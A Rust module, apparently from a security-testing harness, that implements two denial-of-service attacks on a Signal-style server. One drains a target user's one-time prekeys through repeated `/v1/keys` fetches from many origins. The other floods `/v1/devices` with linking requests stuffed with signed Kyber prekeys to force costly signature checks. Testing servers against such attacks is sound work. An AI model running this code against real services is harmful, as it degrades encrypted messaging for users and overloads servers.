//! Prekeys: taken from others, and checked for nothing.

use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use uuid::Uuid;

use super::attacker::{Attacker, Request, elsewhere};
use crate::http::bearer;
use crate::origin::Origin;
use crate::people::Registrar;
use crate::signer::{Identity, ec_public_key, fake_kem_public_key};

/// Kyber prekeys in one request, and elliptic-curve ones beside them: as many as a server takes.
const KEYS: u64 = 100;

pub async fn drain(attacker: Attacker) -> Result<()> {
    let devices: Arc<[_]> = attacker.sign_up(2).await?.into();
    let path = format!("/v1/keys/{}", Uuid::from_bytes(attacker.scene.target.device.user));
    attacker.begin().await;
    let request = move |worker: usize| Request::get(path.clone(), bearer(&devices[worker % devices.len()].token));
    attacker.hammer((0..20).map(|n| elsewhere(40_000 + n)).collect(), Duration::ZERO, request).await
}

pub async fn signatures(attacker: Attacker) -> Result<()> {
    let body: Arc<[u8]> = Arc::from(linking(&Identity::generate()).to_string().into_bytes());
    attacker.begin().await;
    let request = move |_| Request::post("/v1/devices", "content-type: application/json\r\n", body.clone());
    attacker.hammer((0..50).map(|n| Origin::direct(110 + n, 1)).collect(), Duration::ZERO, request).await
}

/// A device with as many keys as it may have, all of them signed well, and a link session that does not exist.
fn linking(identity: &Identity) -> Value {
    let mut body = Registrar::new().keys(identity);
    body["oneTimePreKeys"] =
        (1..=KEYS).map(|id| json!({"keyId": id, "publicKey": STANDARD.encode(ec_public_key(id))})).collect();
    let kem = |id: u64| {
        let key = fake_kem_public_key(id);
        json!({"keyId": id, "publicKey": STANDARD.encode(&key), "signature": STANDARD.encode(identity.sign(&key))})
    };
    body["pqPreKeys"] = (1..=KEYS).map(kem).collect();
    body["pqLastResortPreKey"] = kem(KEYS + 1);
    body["linkSessionId"] = "A".repeat(43).into();
    body
}
